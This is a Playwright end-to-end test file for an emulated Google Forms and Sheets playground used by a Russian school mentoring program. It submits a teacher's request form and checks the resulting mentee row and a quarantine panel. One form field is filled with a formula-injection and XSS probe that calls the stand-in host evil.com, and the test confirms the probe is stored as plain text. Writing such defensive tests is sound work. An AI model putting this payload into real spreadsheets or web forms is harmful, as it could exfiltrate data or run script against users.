// Google Forms in the playground: a teacher fills the request form as a real HTML form; the emulated Forms → Sheets
// link and the trigger in dist/Code.js put the new mentee into «Наставляемые»; the «Формы» panel shows both forms and
// «Карантин».
import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import { openSpreadsheet } from '../../tools/emulator/spreadsheet';
import { test, withPlayground } from './support';

const q = (title: string) => `section[data-question="${title}"]`;

/** The local address of the request form, from the playground's «Формы» tab. */
async function requestFormUrl(page: Page, base: string): Promise<string> {
  await page.click('.drawer-tab[data-pane="forms"]');
  const link = page.locator('#pane-forms tr[data-form-title^="Профессиональные запросы педагогов"] a');
  const href = await link.getAttribute('href');
  assert.ok(href, 'the «Формы» tab links the request form');
  return new URL(href, base).toString();
}

test('a teacher fills the request form in the browser; the new mentee appears in «Наставляемые»', () =>
  withPlayground(async ({ page, url, playground, screenshot }) => {
    const formUrl = await requestFormUrl(page, url);
    const teacher = await page.context().newPage();
    await teacher.goto(formUrl);
    assert.match(
      (await teacher.textContent('h1')) ?? '',
      /^Профессиональные запросы педагогов — МБОУ «СОШ № 7», 2026\/2027 учебный год$/,
    );

    // Sending it empty: the form refuses in Russian, nothing is recorded.
    await teacher.click('button[type="submit"]');
    await teacher.waitForSelector(`${q('Фамилия, имя, отчество')} .error`);
    assert.equal(
      (await teacher.textContent(`${q('Фамилия, имя, отчество')} .error`))?.trim(),
      'Это обязательный вопрос.',
    );
    await screenshot('forms-request-refused');

    await teacher.fill(`${q('Адрес электронной почты')} input`, 'k.belova@sosh2.example');
    await teacher.fill(`${q('Фамилия, имя, отчество')} input`, 'Белова Кира Олеговна');
    await teacher.selectOption(`${q('Должность')} select`, 'учитель');
    await teacher.check(`${q('Преподаваемые предметы и направления')} input[value="химия"]`);
    await teacher.fill(`${q('Педагогический стаж (полных лет)')} input`, '2');
    await teacher.fill(`${q('Дата приёма на работу в школу')} input`, '2024-08-26');
    await teacher.check(`${q('Категория наставляемого')} input[value="молодой специалист (стаж до 3 лет)"]`);
    await teacher.check(
      `${q('Профессиональные запросы')} input[value="Подготовка обучающихся к ГИА (ОГЭ, ЕГЭ) и ВПР"]`,
    );
    await teacher.check(`${q('Профессиональные запросы')} input[value="__other__"]`);
    await teacher.fill(
      `${q('Профессиональные запросы')} input[type="text"]`,
      'Лабораторные работы с опасными реактивами',
    );
    await teacher.fill(
      `${q('Опишите профессиональные затруднения')} textarea`,
      '=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>',
    );
    await teacher.check(`${q('Желаемая форма наставничества')} input[value="индивидуальная"]`);
    await teacher.check(`${q('Согласие на обработку персональных данных')} input[type="checkbox"]`);
    await teacher.check(`${q('Согласие на участие в программе наставничества')} input[type="checkbox"]`);
    await screenshot('forms-request-filled');
    await teacher.screenshot({ path: 'test-results/e2e/forms-request-form.png', fullPage: true });
    await teacher.click('button[type="submit"]');
    await teacher.waitForSelector('[data-submitted="true"]');
    assert.match((await teacher.textContent('[data-submitted]')) ?? '', /Спасибо! Ваш запрос получен/);
    await teacher.screenshot({ path: 'test-results/e2e/forms-request-thanks.png', fullPage: true });
    await teacher.close();

    // The trigger ran through dist/Code.js: the execution is listed and the mentee is in the bank.
    await page.reload();
    await page.waitForSelector('body[data-ready="true"]');
    await page.waitForSelector('#pane-executions tr[data-execution="handleFormSubmit"]');
    await page.click('.sheet-tab[data-sheet="Наставляемые"]');
    const row = page.locator('table.grid[data-sheet="Наставляемые"] tr', { hasText: 'Белова Кира Олеговна' });
    await row.waitFor();
    const cells = (await row.locator('td').allTextContents()).map((t) => t.trim());
    assert.ok(cells.includes('k.belova@sosh2.example'));
    assert.ok(cells.includes('форма'), 'source «форма»');
    assert.ok(cells.includes('ожидает'), 'status «ожидает»');
    const request = cells.find((c) => c.startsWith('Другое: Лабораторные работы')) ?? '';
    assert.ok(
      request.includes('=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>'),
      'the teacher’s words, formula and markup as text',
    );
    const bank = openSpreadsheet(playground.session.world).getSheetByName('Наставляемые')!;
    assert.deepEqual(bank.getDataRange().getFormulas().flat().filter(Boolean), [], 'no cell holds a formula');
    await screenshot('forms-new-mentee');
  }));

test('the «Формы» panel shows both forms, copies the link and settles a «Карантин» row; forms survive a restart', () =>
  withPlayground(async ({ frame, stateFile, screenshot }) => {
    await frame.click('button.tab[data-panel="forms"]');
    await frame.waitForSelector('[data-form="requests"] [data-form-state="open"]');
    assert.equal(await frame.locator('[data-form="mentors"] [data-form-state="open"]').count(), 1);
    assert.equal(await frame.getAttribute('[data-trigger]', 'data-trigger'), 'installed');
    const link = await frame.inputValue('[data-form="requests"] input.forms-link');
    assert.match(link, /^https:\/\/docs\.google\.com\/forms\/d\/e\/.+\/viewform$/);
    await frame.click('[data-form="requests"] button[data-action="copy"]');
    await frame.waitForFunction(() =>
      /скопир/i.test(document.querySelector('[data-form="requests"] [role="status"]')?.textContent ?? ''),
    );

    // The demo's answer with only a surname waits in «Карантин»; the curator rejects it.
    const item = frame.locator('[data-quarantine] li', { hasText: 'Семёнова' });
    await item.waitFor();
    assert.match((await item.locator('.forms-reason').textContent()) ?? '', /Укажите фамилию и имя полностью/);
    await screenshot('forms-panel');
    await item.locator('button[data-action="reject"]').click();
    await frame.waitForSelector('[data-quarantine-total="0"]');
    await frame.waitForSelector('[data-forms-status] .notice');
    assert.match((await frame.textContent('[data-forms-status] .notice')) ?? '', /отклонённая/);

    // The playground restarts from its state file: the forms, their answers and their links are still there.
    await withPlayground(
      async ({ page: again, url }) => {
        const formUrl = await requestFormUrl(again, url);
        assert.equal(await again.locator('#pane-forms tr[data-form-title]').count(), 2);
        const teacher = await again.context().newPage();
        await teacher.goto(formUrl);
        assert.match((await teacher.textContent('h1')) ?? '', /^Профессиональные запросы педагогов/);
        await teacher.close();
      },
      { stateFile },
    );
  }));
